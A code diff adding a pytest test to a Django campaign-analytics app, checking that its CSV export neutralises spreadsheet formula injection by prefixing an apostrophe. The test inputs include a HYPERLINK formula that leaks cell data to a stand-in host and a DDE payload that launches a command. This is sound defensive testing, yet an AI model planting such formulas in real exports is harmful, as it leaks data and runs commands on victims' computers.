@@ -3,6 +3,8 @@
 import csv
 import io
 
+import pytest
+
 from engagement.models import ScanEvent
 from engagement.selectors import campaign_analytics
 from engagement.services import discount_code_redeem, scan_record, scan_target
@@ -60,3 +62,22 @@ def test_analytics_need_permission(client, brochure):
     client.force_login(make_user("viewer"))
     url = f"/admin/engagement/campaignreport/{brochure['campaign'].pk}/csv/"
     assert client.get(url).status_code == 403
+
+
+@pytest.mark.parametrize(
+    "title",
+    ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "=1+2", "-2+3+cmd|' /C calc'!A0"],
+)
+def test_analytics_csv_never_hands_a_formula_to_a_spreadsheet(client, brochure, title):
+    """A piece title that a spreadsheet would run as a formula is exported with an apostrophe
+    in front (OWASP), while numbers stay numbers."""
+    publication = brochure["publication"]
+    publication.title = title
+    publication.save(update_fields=["title"])
+    _journeys(brochure)
+    client.force_login(make_user("boss", superuser=True))
+    export = client.get(f"/admin/engagement/campaignreport/{brochure['campaign'].pk}/csv/")
+    rows = list(csv.reader(io.StringIO(export.content.decode())))
+    keys = {row[1] for row in rows if row[0] == "scans_per_piece"}
+    assert keys == {"'" + title}
+    assert ["summary", "codes_redeemed", "2"] in rows
